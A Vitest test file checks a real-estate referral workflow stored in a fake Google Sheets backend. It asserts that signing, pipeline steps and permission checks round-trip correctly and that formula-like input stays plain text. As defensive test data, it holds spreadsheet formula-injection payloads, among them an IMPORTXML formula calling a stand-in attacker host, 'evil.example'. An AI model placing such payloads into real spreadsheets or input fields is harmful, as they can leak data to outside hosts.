/**
 * The referral server functions on the Sheets driver (the fake Sheets server): a whole
 * agreement and pipeline lands in the Referrals and ReferralEvents tabs, another instance
 * reads it back the same, and typed text that looks like a formula stays text.
 */
import { createHash } from "node:crypto";
import { mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { proposalSchema } from "../../app/domain/referrals/agreement";
import { agreementText } from "../../app/domain/referrals/agreement-text";
import type { Agent } from "../../app/domain/workbook/tabs";
import { loadConfig } from "../../app/server/config.server";
import { licenseDatabaseFile, openLicenseTable } from "../../app/server/licenses/license-table.server";
import { createOutboxMailer } from "../../app/server/mail/mailer.server";
import { createNotifier } from "../../app/server/notifier/notifier.server";
import { agreementHash } from "../../app/server/referrals/agreement-text.server";
import { asSignedBy, endProposal, proposeReferral, referralFor, signReferral, takeStep } from "../../app/server/referrals/referrals.server";
import { createStore } from "../../app/server/store/replica.server";
import { createWriteQueues } from "../../app/server/store/serially.server";
import { createSendClaims } from "../../app/server/send-claims.server";
import { createSheetsDriver } from "../../app/server/store/sheets-driver.server";
import type { Store } from "../../app/server/store/store.server";
import { openSheetsStore, useFakeSheets } from "../support/fake-sheets";
import { agentRecord, requestRecord } from "../support/records";

const { fake, opened } = useFakeSheets();

const FORMULA = '=IMPORTXML("http://evil.example","//a")';

async function network() {
  const { store, spreadsheetId } = await openSheetsStore(fake, "referrals");
  opened.push(store);
  const outbox = mkdtempSync(path.join(tmpdir(), "referral-sheets-"));
  const config = loadConfig({ NODE_ENV: "test", DATA_DIR: outbox });
  const sendClaims = createSendClaims({ store });
  const services = {
    store,
    config,
    notifier: createNotifier({ driver: createOutboxMailer(outbox, "app@example.test"), claims: sendClaims, config }),
    writeQueues: createWriteQueues(),
    sendClaims,
    // No TREC data loaded: the license re-checks let every step through.
    licenses: { table: openLicenseTable(licenseDatabaseFile(outbox)) },
  };
  const maria = await store.agents.insert(
    agentRecord({ fullName: "Maria Delgado", brokerage: "Sooner Homes", brokerLicenseNumber: "OK-155" }),
  );
  const james = await store.agents.insert(agentRecord({ fullName: FORMULA, brokerage: "+1 Realty", brokerLicenseNumber: "0042" }));
  const request = await store.requests.insert(requestRecord(maria));
  const response = await store.responses.insert({
    id: "response-1",
    requestId: request.id,
    fromEmail: james.email,
    fromName: james.fullName,
    toEmail: maria.email,
    message: "Happy to help.",
    createdAt: new Date().toISOString(),
  });
  return { store, spreadsheetId, services, maria, james, request, response };
}

function input(fields: Record<string, unknown> = {}) {
  return proposalSchema.parse({
    referrer: "me",
    clientName: "Ana",
    side: "buyer",
    feeType: "percent",
    feePercent: "25",
    termMonths: 12,
    feeDue: "within 10 days after closing or funding",
    terms: `${FORMULA}\n@SUM(1,2)`,
    ...fields,
  });
}

function reopen(spreadsheetId: string): Store {
  const store = createStore(createSheetsDriver({ spreadsheetId, credentials: { kind: "fixedToken" }, apiUrl: fake.url }), {
    refreshSeconds: 60,
    log: { info: () => undefined, warn: () => undefined, error: () => undefined },
  });
  opened.push(store);
  return store;
}

const link = "http://localhost/referrals/x";

describe("referrals on the Sheets store", () => {
  it("propose, sign, every step: rows and timeline read back the same by another instance, formulas kept as text", async () => {
    const { store, spreadsheetId, services, maria, james, request, response } = await network();
    const now = new Date("2026-11-23T15:00:00.000Z");
    const proposed = await proposeReferral(services, {
      requestId: request.id,
      responseId: response.id,
      member: maria,
      input: input(),
      now,
      link: () => link,
    });
    if (!proposed.ok) throw new Error(proposed.message);
    const id = proposed.referral.id;
    const sign = (member: Agent, name: string, ip: string) => {
      const shownHash = agreementHash(asSignedBy(referralFor(services, member, id)!, member));
      return signReferral(services, { referralId: id, member, fullName: name, shownHash, ip, userAgent: "Test UA", now, link });
    };
    expect((await sign(maria, "Maria Delgado", "198.51.100.1")).ok).toBe(true);
    expect((await sign(james, "James =1+1", "198.51.100.2")).ok).toBe(true);

    const steps = [
      [maria, { intent: "introduced", note: "-2+3" }],
      [james, { intent: "under_contract", expectedCloseDate: "2027-01-10" }],
      [james, { intent: "closed", closeDate: "2027-01-12", salePrice: "300,000", grossCommission: "9,000.00" }],
      [james, { intent: "fee_paid" }],
      [maria, { intent: "fee_received" }],
    ] as const;
    for (const [member, step] of steps)
      expect((await takeStep(services, { referralId: id, member, input: step, now, link })).ok).toBe(true);

    const later = reopen(spreadsheetId);
    await later.refresh();
    const row = later.referrals.get(id)!;
    expect(row).toEqual(store.referrals.get(id));
    expect(row).toMatchObject({
      status: "fee_received",
      terms: `${FORMULA}\n@SUM(1,2)`,
      receivingName: FORMULA,
      receivingBrokerage: "+1 Realty",
      receivingBrokerLicense: "0042",
      receivingSignedName: "James =1+1",
      referringSignedIp: "198.51.100.1",
      receivingSignedIp: "198.51.100.2",
      receivingSignedAgent: "Test UA",
      feeAmount: 225000,
    });
    expect(row.referringSignedHash).toBe(createHash("sha256").update(agreementText(row)).digest("hex"));
    expect(later.referralEvents.by("referralId", id).map((event) => [event.step, event.note])).toEqual([
      ["proposed", ""],
      ["accepted", "Signed by Maria Delgado as the referring agent."],
      ["accepted", "Signed by James =1+1 as the receiving agent."],
      ["signed", "Both parties signed."],
      ["introduced", "-2+3"],
      ["under_contract", ""],
      ["closed", ""],
      ["fee_paid", ""],
      ["fee_received", ""],
    ]);
    // What staff see in the sheet is the typed text, never a computed formula.
    const cells =
      fake.spreadsheet(spreadsheetId).read("Referrals", { value: "FORMATTED_VALUE", dateTime: "FORMATTED_STRING" }).values ?? [];
    expect(cells.flat()).toContain(`${FORMULA}\n@SUM(1,2)`);
    expect(cells.flat()).toContain("James =1+1");
  });

  it("a wrong-party step and a decline by the proposer change no cell", async () => {
    const { store, spreadsheetId, services, maria, request, response } = await network();
    const now = new Date();
    const proposed = await proposeReferral(services, {
      requestId: request.id,
      responseId: response.id,
      member: maria,
      input: input(),
      now,
      link: () => link,
    });
    if (!proposed.ok) throw new Error(proposed.message);
    const before = fake.spreadsheet(spreadsheetId).read("Referrals").values;
    const declined = await endProposal(services, {
      referralId: proposed.referral.id,
      member: maria,
      outcome: "declined",
      note: "",
      now,
      link,
    });
    expect(declined).toMatchObject({ ok: false, status: 403 });
    const step = await takeStep(services, { referralId: proposed.referral.id, member: maria, input: { intent: "introduced" }, now, link });
    expect(step).toMatchObject({ ok: false, status: 403 });
    expect(fake.spreadsheet(spreadsheetId).read("Referrals").values).toEqual(before);
    expect(store.referralEvents.all()).toHaveLength(1);
  });
});
